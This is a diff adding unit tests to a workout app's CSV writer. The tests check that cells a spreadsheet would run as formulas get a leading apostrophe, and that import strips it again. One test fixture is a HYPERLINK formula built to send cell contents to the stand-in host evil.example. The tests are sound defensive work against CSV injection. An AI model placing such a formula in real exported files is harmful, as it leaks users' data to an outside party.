@@ -54,6 +54,38 @@ describe('the CSV writer', () => {
     ]);
   });
 
+  it("puts a ' before every text a spreadsheet would run as a formula, and the importer takes it off again (issue 26)", () => {
+    const formula = '=HYPERLINK("http://evil.example/leak?d="&A2,"Open")';
+    const hostile: ExportedWorkout = {
+      ...workout,
+      name: '+Push',
+      notes: '@everyone',
+      sets: [
+        { exerciseId: 'e1', exerciseName: formula, setNumber: 1, weight: 8818, reps: 10, isWarmup: false, isCompleted: true },
+        { exerciseId: 'e2', exerciseName: '-Dip', setNumber: 1, weight: 0, reps: 12, isWarmup: false, isCompleted: true },
+      ],
+    };
+    const csv = workoutsToCsv([hostile], 'kg');
+    const rows = Papa.parse<string[]>(csv.trim()).data.slice(1);
+    expect(rows.map((row) => [row[1], row[3], row[5], row[6], row[10]])).toEqual([
+      ["'+Push", `'${formula}`, '40', '10', "'@everyone"],
+      ["'+Push", "'-Dip", '0', '12', "'@everyone"],
+    ]);
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const back = parseImportFile(csv, 'kg');
+    expect(back.problems).toEqual([]);
+    expect(back.workouts[0]).toMatchObject({ name: '+Push', notes: '@everyone' });
+    expect(back.workouts[0]!.exercises.map((exercise) => exercise.name)).toEqual([formula, '-Dip']);
+  });
+
+  it('writes numbers as numbers: a negative one is not text and gets no quote', () => {
+    expect(csvField(-5)).toBe('-5');
+    expect(csvField('-5')).toBe("'-5");
+    expect(csvField('=1+1')).toBe("'=1+1");
+    expect(csvField('=SUM(A1,A2)')).toBe(`"'=SUM(A1,A2)"`);
+  });
+
   it('writes a workout without sets (Apple Health) as one row', () => {
     const health: ExportedWorkout = { ...workout, sets: [], health: { type: 'running', caloriesBurned: 300, distance: 5.2 } };
     const rows = Papa.parse<string[]>(workoutsToCsv([health], 'kg').trim()).data.slice(1);
